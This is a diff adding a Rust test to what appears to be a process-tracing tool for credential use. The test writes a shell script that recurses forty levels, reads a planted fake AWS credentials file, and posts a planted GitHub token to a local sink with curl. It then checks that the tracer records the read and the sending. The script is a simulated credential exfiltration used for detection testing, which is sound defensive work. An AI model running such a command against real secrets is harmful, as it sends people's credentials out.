@@ -242,6 +242,40 @@ pub fn trace_shows_events() {
     );
 }
 
+/// What happens forty generations below the command is its doing all the same.
+pub fn trace_follows_forty_generations() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let token = plant::github();
+    let (planted, file) = plant::aws_credentials(&scratch.make("home"));
+    let script = scratch.join("down.sh");
+    fs::write(
+        &script,
+        "if [ $1 -gt 0 ]; then sh \"$0\" $(($1 - 1)) \"$2\" \"$3\"; else cat \"$2\" >/dev/null
+curl -s -d t=$GITHUB_TOKEN \"$3\"; fi; :\n",
+    )
+    .unwrap();
+    let act = trace::command(&scratch, &[])
+        .arg("sh")
+        .arg(&script)
+        .arg("40")
+        .arg(&file)
+        .arg(format!("http://127.0.0.1:{}/in", sink.port))
+        .env("GITHUB_TOKEN", &token.value);
+    let traced = trace::run(&scratch, act);
+    assert_eq!(traced.done.code(), 0, "{}", traced.done.stderr_text());
+    assert!(sink.has(&token.value));
+    let all = crate::events::list(&traced.events);
+    let read = of_kind(&traced.events, "credential_read");
+    assert_eq!(read.len(), 1, "{all}");
+    assert!(read[0].shows(&planted), "{}", read[0].brief());
+    let ancestors = &read[0].process.as_ref().unwrap().ancestors;
+    assert!(ancestors.iter().all(|a| a.pid != traced.done.pid), "{all}");
+    let sent = of_kind(&traced.events, "credential_sent");
+    assert!(sent.iter().any(|e| e.grade() == "observed"), "{all}");
+}
+
 /// What `trace` says of a command that uses credentials: the file is complete when it ends, the summary names what
 /// was met and where it went, and nobody else's processes are in it.
 pub fn trace_follows_descendants() {
